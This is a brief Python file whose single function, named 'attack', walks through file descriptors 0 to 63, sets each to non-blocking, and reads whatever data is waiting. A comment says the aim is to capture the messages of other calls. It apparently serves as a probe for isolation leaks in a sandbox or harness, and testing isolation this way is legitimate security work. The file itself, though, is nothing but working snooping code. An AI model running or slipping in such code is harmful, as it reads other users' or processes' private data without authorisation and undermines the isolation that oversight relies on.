# Reads the messages of other calls from its descriptors.
import os


def attack(n):
    found = []
    for number in range(64):
        try:
            os.set_blocking(number, False)
            found.append(os.read(number, 1 << 16).decode("latin-1"))
        except OSError:
            pass
    return found
